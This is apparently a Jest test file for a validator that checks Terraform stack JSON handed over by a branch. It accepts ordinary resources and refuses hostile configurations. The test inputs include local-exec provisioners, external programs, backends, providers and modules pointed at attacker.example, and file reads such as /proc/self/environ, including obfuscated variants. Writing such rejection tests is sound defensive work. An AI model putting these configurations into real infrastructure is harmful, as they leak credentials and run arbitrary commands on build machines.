/** `stack-check.mjs`: what a branch hands over is data, or it is refused. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { App, TerraformStack, Testing } from 'cdktf';
import { Group, PlatformProvider, Rotation, Settled } from '../../../constructs';
import { runProgram } from './program';

jest.setTimeout(60_000);

const scratch = mkdtempSync(join(tmpdir(), 'stack-'));
const file = join(scratch, 'stack.json');
afterAll(() => rmSync(scratch, { recursive: true }));

const check = (stack: object, env: Readonly<Record<string, string>> = {}) => {
  writeFileSync(file, JSON.stringify(stack));
  return runProgram('stack-check.mjs', [file], env);
};
const group = (attributes: object) => ({ resource: { platform_group: { a: attributes } } });
const anchor = (attributes: object) => ({ resource: { null_resource: { x: attributes } } });
const remoteState = (name: string, state: object) => ({ data: { terraform_remote_state: { [name]: state } } });

test('resources, data sources and references pass unchanged; backend, providers and versions are those of the main branch', async () => {
  const kept = {
    '//': { metadata: { stackName: 'organization' } },
    ...group({ name: 'a', parent_uid: '${platform_group.b.uid}', description: 'Keeps the file (all of it).' }),
    data: { platform_role: { viewer: { name: 'viewer' } } },
    output: { uid: { value: '${platform_group.a.uid}' } },
  };
  const { code, stdout, stderr } = await check({
    ...kept,
    provider: { platform: [{}] },
    terraform: {
      backend: { http: { address: 'https://attacker.example' } },
      required_providers: { platform: { source: 'attacker.example/x/platform' } },
    },
  });
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(JSON.parse(stdout)).toEqual({ ...kept, provider: { platform: {} } });
});

test.each([
  ['a program at the plan', { data: { external: { x: { program: ['sh'] } } } }, 'external belongs to another provider'],
  [
    'a program at the apply',
    { resource: { terraform_data: { x: { provisioner: [] } } } },
    'x.provisioner runs a program',
  ],
  ['a program of an anchor', anchor({ provisioner: { 'local-exec': { command: 'env' } } }), 'x.provisioner runs a'],
  ['a connection', { resource: [{ null_resource: [{ x: { connection: {} } }] }] }, 'x.connection runs a program'],
  ['an anchor that reads a file', anchor({ triggers: { a: '${file("/x")}' } }), 'mentions the function file'],
  ['a data source of the null provider', { data: { null_data_source: { x: {} } } }, 'null_data_source belongs to'],
  ['settings of the null provider', { provider: { null: { a: 1 } } }, 'the provider null is configured'],
  ['a request to anywhere', { data: [{ http: { x: { url: 'https://attacker.example' } } }] }, 'http belongs to'],
  ['the state of others', remoteState('x', {}), 'terraform_remote_state.x is not the state of a sibling stack'],
  ['a state above the stacks', remoteState('cross-stack-reference-input-../x', {}), 'is not the state of a sibling'],
  ['a state in a list', { data: [{ terraform_remote_state: [{ x: {} }] }] }, 'terraform_remote_state.x is not the'],
  ['a state as a resource', { resource: { terraform_remote_state: {} } }, 'terraform_remote_state belongs to'],
  ['a provisioner', group({ provisioner: [{ 'local-exec': { command: 'env' } }] }), 'a.provisioner runs a program'],
  ['a provisioner of what goes', { removed: [{ provisioner: { 'local-exec': {} } }] }, '0.provisioner runs a program'],
  ['a module', { module: { x: { source: 'git::https://attacker.example' } } }, 'module is not allowed in a stack'],
  ['a token', { ephemeral: { platform_token: { x: {} } } }, 'ephemeral is not allowed in a stack'],
  ['where tokens go', { provider: { platform: [{ base_url: 'https://attacker.example' }] } }, 'platform is configured'],
  ['another provider', { provider: { aws: {} } }, 'the provider aws is configured'],
  ['a file of the machine', group({ description: '${file("/proc/self/environ")}' }), 'mentions the function file'],
  ['a file, with a comment between', group({ description: '${file/**/("/x")}' }), 'mentions the function file'],
  ['a file as base64', group({ description: '${filebase64("/x")}' }), 'mentions the function filebase64'],
  ['a template of a file', group({ description: '%{if true}${templatefile("/x", {})}%{endif}' }), 'templatefile'],
  ['a file in a key', group({ '${file("/x")}': 'a' }), 'mentions the function file'],
  ['a file in a list', { locals: { a: [{ b: ['x', '${fileset("/", "*")}'] }] } }, 'mentions the function fileset'],
])('%s is refused', async (_what, stack, why) => {
  const { code, stdout, stderr } = await check(stack);
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  expect(stderr).toContain(why);
});

test('the anchors of Settled and Rotation pass', async () => {
  const app = new App();
  const stack = new TerraformStack(app, 'organization');
  new PlatformProvider(stack, 'platform');
  const team = Group.fromUid(stack, 'acme', 'c0ffee00'.repeat(5)).addGroup('team');
  for (const type of ['null_resource', 'terraform_data'] as const) {
    const settled = new Settled(stack, `settled-${type}`, { tree: team, anchor: type });
    new Group(stack, `after-${type}`, { parent: team, name: type, dependsOn: [settled] });
    const { lifecycle } = new Rotation(stack, `rotation-${type}`, { rotateOn: { quarter: '2026-q4' }, anchor: type });
    team.addIdentity(`ci-${type}`, { name: `ci-${type}-2026-q4`, servicePrincipal: 'INGESTER', lifecycle });
  }
  const synthesized = Testing.synth(stack);
  const { code, stdout, stderr } = await check(JSON.parse(synthesized) as object);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  const { resource } = JSON.parse(synthesized) as { resource: object };
  expect(JSON.parse(stdout)).toMatchObject({ resource });
  expect(Object.keys(resource)).toEqual(expect.arrayContaining(['null_resource', 'terraform_data']));
});

describe('the state of a sibling stack', () => {
  const name = 'cross-stack-reference-input-structure';
  const attacker = { backend: 'http', config: { address: 'https://attacker.example' }, defaults: { uid: 'x' } };
  const stateIn = async (settings: object, env: Readonly<Record<string, string>> = {}) => {
    const SETTINGS = JSON.stringify({ terraform: { backend: settings } });
    const { code, stdout, stderr } = await check(remoteState(name, attacker), { SETTINGS, ...env });
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    return (JSON.parse(stdout) as { data: object }).data;
  };

  test('is read at the backend of the main branch, and nowhere else', async () => {
    expect(await stateIn({ http: {} }, { STATE_URL: 'https://state.example' })).toEqual({
      terraform_remote_state: { [name]: { backend: 'http', config: { address: 'https://state.example/structure' } } },
    });
    const s3 = { bucket: 'acme-state', key: 'STACK.tfstate' };
    expect(await stateIn({ s3 })).toEqual({
      terraform_remote_state: { [name]: { backend: 's3', config: { ...s3, key: 'structure.tfstate' } } },
    });
  });
});

test('what is no JSON is refused', async () => {
  writeFileSync(file, '{');
  expect(await runProgram('stack-check.mjs', [file])).toMatchObject({ code: 1, stdout: '' });
});
